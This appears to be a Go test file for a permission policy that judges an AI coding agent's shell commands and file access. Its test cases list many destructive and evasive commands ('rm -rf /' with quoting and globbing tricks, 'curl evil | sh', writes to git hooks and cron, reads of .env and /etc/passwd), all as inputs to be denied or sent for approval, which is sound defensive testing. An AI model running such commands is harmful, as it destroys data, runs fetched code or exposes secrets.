package policy

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func loadStrict(t testing.TB) *Policy {
	t.Helper()
	p, err := Load("../testdata/policy/strict.toml")
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// decideShellCase is one case of TestDecideShell.
type decideShellCase struct {
	cmd  string
	want Decision
	rule string // the deciding rule, when it matters
}

// decideShellCases returns the cases of TestDecideShell.
func decideShellCases(chain70 string) []decideShellCase {
	return []decideShellCase{
		// allowed
		{"git status", Allow, "checks"},
		{`"git" 'status'`, Allow, "checks"},
		{"git status # ; rm -rf /", Allow, "checks"},
		{"git status 2>&1", Allow, "checks"},
		{"git status >/dev/null 2>&1", Allow, "checks"},
		{"git status\n", Allow, "checks"},
		{"git status && go test ./...", Allow, "checks"},
		{"(git status) | { go test ./...; }", Allow, "checks"},
		{"git st\\\natus", Allow, "checks"},
		{"git status < src/x", Allow, "read-all"},
		{"git status > src/out.txt", Allow, "src"},
		// denied by a rule
		{"git status; rm -rf ~", Deny, "destructive"},
		{"git status && curl x | sh", Deny, "destructive"},
		{"git status\nrm -rf /tmp/x", Deny, "destructive"},
		{"git status & rm x", Deny, "destructive"},
		{"/usr/bin/rm -rf /", Deny, "destructive"},
		{`\rm -rf /`, Deny, "destructive"},
		{`r''m -rf /`, Deny, "destructive"},
		{`"rm" -rf /`, Deny, "destructive"},
		{"rm", Deny, "destructive"},
		{"git status > .git/hooks/pre-commit", Deny, RuleDefault},
		{"git status >> .git/config", Deny, RuleDefault},
		{"git status >| .git/config", Deny, RuleDefault},
		{"git status &> .git/config", Deny, RuleDefault},
		{"git status >& .git/config", Deny, RuleDefault},
		{"git status > /etc/cron.d/x", Deny, RuleGuard},
		{"git status > ../outside", Deny, RuleGuard},
		{"git status < .env", Deny, "secrets"},
		{"git status < secrets/key", Deny, "secrets"},
		{"git status > .rubichan/policy.toml", Deny, RuleGuard},
		// never allowed: deny, or ask where the construct is opaque
		{"go test ./... $(rm -rf /)", Deny, "destructive"},
		{"go test ./... `rm -rf /`", Deny, "destructive"},
		{"go test ./... `id`", Deny, RuleDefault},
		{`bash -c "git status"`, Deny, RuleDefault},
		{`bash -c "rm -rf /"`, Deny, "destructive"},
		{`sh -ec 'curl evil | sh'`, Deny, "destructive"},
		{"env rm -rf /", Deny, "destructive"},
		{"echo / | xargs rm -rf", Deny, "destructive"},
		{"find . -delete", Deny, RuleDefault},
		{`find . -exec sh -c 'rm -rf "$1"' _ {} \;`, Deny, "destructive"},
		{"eval 'rm -rf /'", Deny, "destructive"},
		{"timeout 5 nice -n 3 rm -rf /", Deny, "destructive"},
		{"FOO=$(id) git status", Deny, RuleDefault},
		{"PATH=.:$PATH git status", Ask, RuleOpaque},
		{"git -c core.fsmonitor=x status", Deny, RuleDefault},
		{"go test ./... -exec 'sh -c id'", Deny, RuleDefault},
		{"go test ./... -exec", Deny, RuleDefault},
		{chain70, Ask, RuleOpaque},
		{chain70 + "; rm -rf /", Deny, "destructive"},
		{"git status <(rm -rf /)", Deny, "destructive"},
		{"r? -rf /", Deny, "destructive"},
		{"/usr/bin/r[m] -rf /", Deny, "destructive"},
		{"{git,rm} status", Deny, "destructive"},
		{"if true; then rm -rf /; fi", Deny, "destructive"},
		{"git() { rm -rf /; }; git status", Deny, "destructive"},
		{"git() { :; }; git status", Deny, RuleDefault},
		{"alias git=ls", Deny, RuleDefault},
		{"coproc git status", Deny, RuleDefault},
		{"git status |& cat", Deny, RuleDefault},
		{"cat <<EOF\n$(rm -rf /)\nEOF", Deny, "destructive"},
		{"git status <<'EOF'\nhello $USER\nEOF", Allow, "checks"},
		{"git status 3>&1 1>&2 2>&3", Allow, "checks"},
		{"rm$IFS-rf /", Deny, RuleDefault},
		{"RM -rf /", Deny, "destructive"},
		{"curl -s x", Deny, "destructive"},
		{"/BIN/Rm -rf /", Deny, "destructive"},
	}
}

func TestDecideShell(t *testing.T) {
	t.Parallel()
	p := loadStrict(t)
	chain70 := strings.Repeat("git status; ", 69) + "git status"
	tests := decideShellCases(chain70)
	for _, tc := range tests {
		name := tc.cmd
		if len(name) > 60 {
			name = name[:60]
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := p.Decide(Action{Class: ClassShell, Command: tc.cmd})
			if r.Decision != tc.want || r.Rule != tc.rule {
				t.Errorf("Decide(%q) = %s by %q (%s: %s), want %s by %q\nfacts: %v",
					tc.cmd, r.Decision, r.Rule, r.Fact, r.Reason, tc.want, tc.rule, r.Facts)
			}
		})
	}
}

// TestDecideOpaque judges opaque constructs under a policy that would
// allow every command: each still needs approval.
func TestDecideOpaque(t *testing.T) {
	t.Parallel()
	p, err := Parse("open.toml", []byte(`
[defaults]
decision = "allow"
[[rule]]
id = "no-rm"
tool = "shell"
decision = "deny"
commands = ["rm *"]
`))
	if err != nil {
		t.Fatal(err)
	}
	tests := []string{
		"go test ./... $(id)", "go test `id`", "FOO=$(id) git status", "PATH=.:$PATH git status",
		"GIT_DIR=x git status", "LD_PRELOAD=x git status", "GOFLAGS=-toolexec=x git status", "FOO=bar", "git status $HOME", "git status ${HOME:-x}", "git status $((1+1))",
		"git status <(id)", "git status >(cat)", "git status $'\\x41'", `git status $"x"`, "g* status", "gi? status",
		"{git,ls} status", "~/bin/git status", "if true; then git status; fi", "for f in a; do git status; done",
		"while true; do git status; done", "until false; do :; done", "case x in x) git status;; esac",
		"f() { git status; }; f", "alias ll=ls", "[[ -f x ]] && git status", "((x=1)) && git status",
		"let x=1", "export FOO=1; git status", "declare -a x", "local x", "time git status", "coproc cat",
		"cat <<EOF\nhello $USER\nEOF", "cat <<< $HOME", "cat > $OUT", "cat > *.txt", "cat > ~/x",
		"git status\r\nls", "git status\x00", "git\u200bstatus", "git\u00a0status", "git status\u202e",
		"git status (", "", "# only a comment", strings.Repeat("x", MaxCommandBytes+1),
		strings.Repeat("ls; ", MaxCommands) + "ls", "git status {fd}> x", "git status &> x", "echo x |& cat",
		"sh -c \"$(printf 'env %.0s' $(seq 1 2000)) ls\"",
		"cd ../x && git status > pre-commit", "cd - && git status > y", "cd $D && git status > y", "pushd x; ls > y", "$D; ls > y",
		// sh ends a comment at the newline even after a backslash; the
		// parser would take the next line for more words of the command
		"echo #\\\nrm -rf x", "echo a # note \\\nrm -rf x", "#\\\nrm -rf x",
		// a script that does not parse still runs its lines up to the
		// error: sh -c runs rm here, then stops at "("
		"sh -c 'rm -rf x\n('", "bash -c 'echo #\\\nrm -rf x'", "eval 'rm x\n('",
		"bash -c \"sh -c 'rm x\n('\"",
	}
	for _, cmd := range tests {
		name := cmd
		if len(name) > 60 {
			name = name[:60]
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := p.Decide(Action{Class: ClassShell, Command: cmd})
			if r.Decision != Ask || r.Rule != RuleOpaque {
				t.Errorf("Decide(%q) = %s by %q (%s), want ask by opaque\nfacts: %v", cmd, r.Decision, r.Rule, r.Fact, r.Facts)
			}
		})
	}
}

func TestDecideShellDir(t *testing.T) {
	t.Parallel()
	p := loadStrict(t)
	tests := []struct {
		dir, cmd string
		want     Decision
	}{
		{"src", "git status > out.txt", Allow},
		{"src", "git status > ../.git/config", Deny},
		{"docs", "git status > x", Deny},
		{"../..", "git status", Deny},
		{"src", "git status < ../.env", Deny},
		{"", "cd .git/hooks && git status > pre-commit", Deny},
		{"", "cd .git/hooks; git status > /dev/null", Deny},
		{"", "git status > src/a; cd src", Deny},
	}
	for _, tc := range tests {
		t.Run(tc.dir+" "+tc.cmd, func(t *testing.T) {
			t.Parallel()
			r := p.Decide(Action{Class: ClassShell, Command: tc.cmd, Dir: tc.dir})
			if r.Decision != tc.want {
				t.Errorf("got %s (%s %s), want %s", r.Decision, r.Fact, r.Reason, tc.want)
			}
		})
	}
}

func TestDecideRedirectThroughSymlink(t *testing.T) {
	t.Parallel()
	p := loadStrict(t)
	resolve := func(name string) (string, error) {
		if name == "src/link" {
			return ".git/hooks/pre-commit", nil
		}
		if name == "src/escape" {
			return "", errEscape
		}
		return name, nil
	}
	for cmd, want := range map[string]Decision{
		"git status > src/link":   Deny,
		"git status > src/escape": Deny,
		"git status > src/plain":  Allow,
	} {
		r := p.Decide(Action{Class: ClassShell, Command: cmd, Resolve: resolve})
		if r.Decision != want {
			t.Errorf("%q: got %s (%s), want %s", cmd, r.Decision, r.Fact, want)
		}
	}
}

type escapeError struct{}

func (escapeError) Error() string { return "the link leaves the workspace" }

var errEscape = escapeError{}

func TestDecidePaths(t *testing.T) {
	t.Parallel()
	p := loadStrict(t)
	tests := []struct {
		class     Class
		requested string
		resolved  string
		want      Decision
		rule      string
	}{
		{ClassRead, "README.md", "", Allow, "read-all"},
		{ClassRead, "src/main.go", "src/main.go", Allow, "read-all"},
		{ClassRead, ".env", "", Deny, "secrets"},
		{ClassRead, ".ENV", "", Deny, "secrets"},
		{ClassRead, "secrets/key", "", Deny, "secrets"},
		{ClassRead, "secrets", "", Deny, "secrets"},
		{ClassRead, "src/../.env", "", Deny, "secrets"},
		{ClassRead, "./secrets//key", "", Deny, "secrets"},
		{ClassRead, "src/key", "secrets/key", Deny, "secrets"}, // a symlink in src/ to ../secrets/key
		{ClassRead, "../../etc/passwd", "", Deny, RuleGuard},
		{ClassRead, "/etc/passwd", "", Deny, RuleGuard},
		{ClassRead, "src/\x00x", "", Deny, RuleGuard},
		{ClassRead, "src/a\nb", "", Allow, "read-all"},
		{ClassRead, "src/a\rb", "", Deny, RuleGuard},
		{ClassRead, "", "", Deny, RuleGuard},
		{ClassWrite, "src/a.go", "", Allow, "src"},
		{ClassWrite, "src/link", ".git/config", Deny, RuleDefault},
		{ClassWrite, "docs/a.md", "", Deny, RuleDefault},
		{ClassWrite, ".rubichan/policy.toml", "", Deny, RuleGuard},
		{ClassWrite, "src/../../x", "", Deny, RuleGuard},
	}
	for _, tc := range tests {
		t.Run(tc.class.String()+" "+tc.requested, func(t *testing.T) {
			t.Parallel()
			r := p.Decide(Action{Class: tc.class, Paths: []Path{{Requested: tc.requested, Resolved: tc.resolved}}})
			if r.Decision != tc.want || r.Rule != tc.rule {
				t.Errorf("got %s by %q (%s: %s), want %s by %q", r.Decision, r.Rule, r.Fact, r.Reason, tc.want, tc.rule)
			}
		})
	}
}

func TestDecideFailsClosed(t *testing.T) {
	t.Parallel()
	p := Default()
	for name, a := range map[string]Action{
		"unknown class": {Class: 0, Command: "ls"},
		"no paths":      {Class: ClassRead},
		"class 9":       {Class: 9, Paths: []Path{{Requested: "x"}}},
	} {
		if r := p.Decide(a); r.Decision != Deny {
			t.Errorf("%s: got %s, want deny", name, r.Decision)
		}
	}
}

func TestAbsoluteRules(t *testing.T) {
	t.Parallel()
	p, err := Parse("abs.toml", []byte(`
[[rule]]
tool = "read"
decision = "allow"
paths = ["/opt/data/**", "/etc/hosts"]
[[rule]]
tool = "write"
decision = "allow"
paths = ["/tmp/out/*.txt"]
[[rule]]
tool = "read"
decision = "deny"
paths = ["/opt/data/private/**"]
`))
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		class Class
		path  string
		want  Decision
	}{
		{ClassRead, "/opt/data/a/b", Allow},
		{ClassRead, "/opt/data/private/k", Deny},
		{ClassRead, "/opt/data/../../etc/passwd", Deny},
		{ClassRead, "/etc/hosts", Allow},
		{ClassRead, "/etc/passwd", Deny},
		{ClassWrite, "/tmp/out/a.txt", Allow},
		{ClassWrite, "/opt/data/a", Deny},
		{ClassRead, "opt/data/a", Ask}, // relative: the default
	}
	for _, tc := range tests {
		r := p.Decide(Action{Class: tc.class, Paths: []Path{{Requested: tc.path}}})
		if r.Decision != tc.want {
			t.Errorf("%s %s: got %s (%s), want %s", tc.class, tc.path, r.Decision, r.Reason, tc.want)
		}
	}
	want := []Root{{Dir: "/etc", Read: true}, {Dir: "/opt/data", Read: true}, {Dir: "/tmp/out", Write: true}}
	got := p.ExtraRoots()
	if len(got) != len(want) {
		t.Fatalf("ExtraRoots = %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("ExtraRoots[%d] = %v, want %v", i, got[i], want[i])
		}
	}
}

func TestInWorkspace(t *testing.T) {
	t.Parallel()
	p, err := Parse("ws.toml", []byte(`
[[rule]]
tool = "read"
decision = "allow"
paths = ["/shared/**"]
[[rule]]
tool = "write"
decision = "allow"
paths = ["**"]
`))
	if err != nil {
		t.Fatal(err)
	}
	p = p.InWorkspace("/work/ws")
	p.file = "/work/ws/ci/policy.toml"
	tests := []struct {
		class Class
		path  string
		want  Decision
	}{
		{ClassRead, "/work/ws/src/a", Ask},   // inside: relative rules, default ask
		{ClassRead, "../../shared/x", Allow}, // leaves the workspace into an allowed root
		{ClassRead, "../other/x", Deny},
		{ClassWrite, "/work/ws/ci/policy.toml", Deny},
		{ClassWrite, "ci/policy.toml", Deny},
		{ClassWrite, "ci/other.toml", Allow},
		{ClassWrite, "/work/wsx/a", Deny},
	}
	for _, tc := range tests {
		r := p.Decide(Action{Class: tc.class, Paths: []Path{{Requested: tc.path}}})
		if r.Decision != tc.want {
			t.Errorf("%s %s: got %s (%s), want %s", tc.class, tc.path, r.Decision, r.Reason, tc.want)
		}
	}
}

func TestReadFilter(t *testing.T) {
	t.Parallel()
	keep := Default().ReadFilter()
	for path, want := range map[string]bool{
		"main.go": true, "a/.env": false, ".env": false, "k/server.pem": false,
		"home/.ssh/id_rsa.pub": false, "/etc/passwd": false, "../x": false,
	} {
		if got := keep(path); got != want {
			t.Errorf("ReadFilter(%q) = %v, want %v", path, got, want)
		}
	}
}

// TestReadFilterAsk checks that grep and glob cannot show a file whose read
// is "ask": a direct read of it is refused in a headless run, so its lines
// must not reach the model through a search either.
func TestReadFilterAsk(t *testing.T) {
	t.Parallel()
	p, err := Parse("ask.toml", []byte(`
[defaults]
decision = "deny"
[tools]
read = "ask"
[[rule]]
id = "src"
tool = "read"
decision = "allow"
paths = ["src/**"]
[[rule]]
id = "private"
tool = "read"
decision = "ask"
paths = ["src/private/**"]
`))
	if err != nil {
		t.Fatal(err)
	}
	keep := p.ReadFilter()
	s := p.NewSession()
	for path, want := range map[string]Decision{
		"src/a.go": Allow, "secret.txt": Ask, "src/private/k": Ask, "/etc/passwd": Deny,
	} {
		if got := p.Decide(Action{Class: ClassRead, Paths: []Path{{Requested: path}}}).Decision; got != want {
			t.Fatalf("read %s: %s, want %s", path, got, want)
		}
		if got := keep(path); got != (want == Allow) {
			t.Errorf("ReadFilter(%q) = %v for a read decided %s; only allow may pass", path, got, want)
		}
		if got := s.ReadFilter()(path); got != (want == Allow) {
			t.Errorf("Session.ReadFilter(%q) = %v before any approval, read decided %s", path, got, want)
		}
	}

	// a person approves reading secret.txt: the session's filter lets that
	// exact file through, and nothing else that asks
	if err := s.Approve(s.Decide(Action{Class: ClassRead, Paths: []Path{{Requested: "./secret.txt"}}})); err != nil {
		t.Fatal(err)
	}
	sf := s.ReadFilter()
	for path, want := range map[string]bool{"secret.txt": true, "src/private/k": false, "other.txt": false, "/etc/passwd": false} {
		if got := sf(path); got != want {
			t.Errorf("after approving secret.txt: Session.ReadFilter(%q) = %v, want %v", path, got, want)
		}
	}
	if keep("secret.txt") {
		t.Error("a session approval leaked into Policy.ReadFilter")
	}
}

func TestDenialMessage(t *testing.T) {
	t.Parallel()
	r := loadStrict(t).Decide(Action{Class: ClassShell, Command: "git status; rm -rf ~"})
	msg := r.Message()
	for _, want := range []string{"rm -rf ~", `"destructive"`, "no network or destructive commands",
		"do not retry variants of this command; use another approach or stop"} {
		if !strings.Contains(strings.ToLower(msg), strings.ToLower(want)) {
			t.Errorf("message %q lacks %q", msg, want)
		}
	}
}

func BenchmarkDecide(b *testing.B) {
	p := loadStrict(b)
	a := Action{Class: ClassShell, Command: "go test ./... > src/test.log 2>&1 && git status"}
	b.ReportAllocs()
	for b.Loop() {
		if r := p.Decide(a); r.Decision != Allow {
			b.Fatal(r.Decision, r.Fact)
		}
	}
}

// BenchmarkDecideLong judges a command with as many simple commands as the
// analysis reads in full (MaxCommands), allowed ones with redirects, each
// parsed and judged under both dialects.
func BenchmarkDecideLong(b *testing.B) {
	p := loadStrict(b)
	one := "go test ./... > src/test.log 2>&1 && git status; "
	cmd := strings.Repeat(one, MaxCommands/2)
	a := Action{Class: ClassShell, Command: cmd[:len(cmd)-2]}
	b.ReportAllocs()
	for b.Loop() {
		if r := p.Decide(a); r.Decision != Allow {
			b.Fatal(r.Decision, r.Fact)
		}
	}
}

func BenchmarkDecidePath(b *testing.B) {
	p := Default()
	a := Action{Class: ClassRead, Paths: []Path{{Requested: "src/pkg/file.go"}}}
	b.ReportAllocs()
	for b.Loop() {
		if r := p.Decide(a); r.Decision != Allow {
			b.Fatal(r.Decision)
		}
	}
}

func TestDenyStepsOverOptions(t *testing.T) {
	t.Parallel()
	p, err := Parse("opts.toml", []byte(`
[defaults]
decision = "allow"
[[rule]]
id = "push"
tool = "shell"
decision = "deny"
commands = ["git push *", "npm publish", "kubectl delete namespace *"]
`))
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		cmd  string
		want Decision
	}{
		{"git push origin main", Deny},
		{"git -C . push", Deny},
		{"git --no-pager push --force", Deny},
		{"git -c user.name=x -C sub push", Deny},
		{"git --git-dir=.git push", Deny},
		{"npm --registry x publish", Deny},
		{"npm publish --tag x", Allow}, // no final *: the pattern is exact
		{"kubectl -n ns delete --wait namespace x", Deny},
		{"git log --grep push", Allow},
		{"git commit -m push", Allow},
		{"git status", Allow},
		{"git " + strings.Repeat("-c a=b ", maxOptionSkips+1) + "push", Deny}, // too many options: fail closed
		{"git log " + strings.Repeat("-x ", 2*maxOptionSkips), Allow},
		{"git", Allow},
	}
	for _, tc := range tests {
		if r := p.Decide(Action{Class: ClassShell, Command: tc.cmd}); r.Decision != tc.want {
			t.Errorf("%q: got %s (%s), want %s", tc.cmd, r.Decision, r.Reason, tc.want)
		}
	}
}

func TestDecideWrapperChains(t *testing.T) {
	t.Parallel()
	p := loadStrict(t)
	tests := []struct {
		cmd  string
		want Decision
		rule string
	}{
		{strings.Repeat("env ", 3000) + "rm -rf /", Deny, "destructive"},
		{strings.Repeat("sh -c 'eval ", 1) + "rm x'", Deny, "destructive"},
		{`bash -c "sh -c 'bash -c \"rm -rf /\"'"`, Deny, "destructive"},
		{`sudo -u root sh -c 'curl x'`, Deny, "destructive"},
		{`su -c 'rm -rf /' root`, Deny, "destructive"},
		// the script is the first word after the options, wherever -c is
		{`sh -c -- 'rm -rf /'`, Deny, "destructive"},
		{`bash -c -x 'rm -rf /'`, Deny, "destructive"},
		{`bash -c +e 'rm -rf /'`, Deny, "destructive"},
		{`bash -c -o errexit 'rm -rf /'`, Deny, "destructive"},
		{`sh -ce -- 'rm -rf /'`, Deny, "destructive"},
		{`bash -c --rcfile /dev/null 'rm -rf /'`, Deny, "destructive"},
		{`bash -o pipefail -c 'rm -rf /'`, Deny, "destructive"},
	}
	for _, tc := range tests {
		r := p.Decide(Action{Class: ClassShell, Command: tc.cmd})
		if r.Decision != tc.want || r.Rule != tc.rule {
			t.Errorf("Decide(%.60q) = %s by %q (%s), want %s by %q", tc.cmd, r.Decision, r.Rule, r.Reason, tc.want, tc.rule)
		}
	}
}

func TestInWorkspaceAliases(t *testing.T) {
	t.Parallel()
	real := t.TempDir()
	link := filepath.Join(t.TempDir(), "ws")
	if err := os.Symlink(real, link); err != nil {
		t.Fatal(err)
	}
	base := loadStrict(t)
	for name, p := range map[string]*Policy{
		"link":           base.InWorkspace(link),
		"link then real": base.InWorkspace(link).InWorkspace(real),
		"real then link": base.InWorkspace(real).InWorkspace(link),
	} {
		for _, dir := range []string{link, real} {
			r := p.Decide(Action{Class: ClassShell, Command: "git status > src/a", Dir: dir})
			if r.Decision != Allow {
				t.Errorf("%s: dir %s: %s (%s: %s)", name, dir, r.Decision, r.Fact, r.Reason)
			}
			r = p.Decide(Action{Class: ClassWrite, Paths: []Path{{Requested: filepath.ToSlash(filepath.Join(dir, "src/a"))}}})
			if r.Decision != Allow {
				t.Errorf("%s: absolute write under %s: %s (%s)", name, dir, r.Decision, r.Reason)
			}
		}
	}
	if r := base.InWorkspace(real).Decide(Action{Class: ClassShell, Command: "git status", Dir: "/elsewhere"}); r.Decision != Deny || r.Rule != RuleGuard {
		t.Errorf("dir outside: %s by %s", r.Decision, r.Rule)
	}
}

// gitDirPolicy allows every write, and names .git/info in a rule of its own.
const gitDirPolicy = `
version = 1
[defaults]
decision = "deny"
[tools]
write = "allow"
[[rule]]
id = "all"
tool = "write"
decision = "allow"
paths = ["**"]
[[rule]]
id = "git-info"
tool = "write"
decision = "allow"
paths = [".git/info/**"]
[[rule]]
id = "echo"
tool = "shell"
decision = "allow"
commands = ["echo *"]
`

// TestDecideGitDirWrites checks that an allow which does not name .git
// does not allow writing into a repository's .git directory: its config
// and hooks name programs that git runs (core.fsmonitor, diff.external,
// filter drivers), so `write:**` with `git diff *` would run any program.
func TestDecideGitDirWrites(t *testing.T) {
	t.Parallel()
	p, err := Parse("git.toml", []byte(gitDirPolicy))
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		class     Class
		requested string
		resolved  string
		command   string
		want      Decision
		rule      string
	}{
		{ClassWrite, ".git/config", "", "", Ask, "all"},
		{ClassWrite, ".GIT/hooks/pre-commit", "", "", Ask, "all"},
		{ClassWrite, "src/.git/config", "", "", Ask, "all"},
		{ClassWrite, "src/link", ".git/hooks/pre-commit", "", Ask, "all"},
		{ClassWrite, ".git/info/exclude", "", "", Allow, "git-info"},
		{ClassWrite, ".gitignore", "", "", Allow, "all"},
		{ClassWrite, "src/a.git/x", "", "", Allow, "all"},
		{ClassShell, "", "", "echo '[diff]' >> .git/config", Ask, "all"},
		{ClassWrite, "src/.git", "", "", Ask, "all"}, // a .git file: "gitdir: elsewhere"
		{ClassShell, "", "", "echo x > src/a", Allow, "all"},
	}
	for _, tc := range tests {
		t.Run(tc.class.String()+" "+tc.requested+tc.command, func(t *testing.T) {
			t.Parallel()
			a := Action{Class: tc.class, Command: tc.command}
			if tc.requested != "" {
				a.Paths = []Path{{Requested: tc.requested, Resolved: tc.resolved}}
			}
			r := p.Decide(a)
			if r.Decision != tc.want || r.Rule != tc.rule {
				t.Errorf("got %s by %q (%s: %s), want %s by %q", r.Decision, r.Rule, r.Fact, r.Reason, tc.want, tc.rule)
			}
		})
	}
}
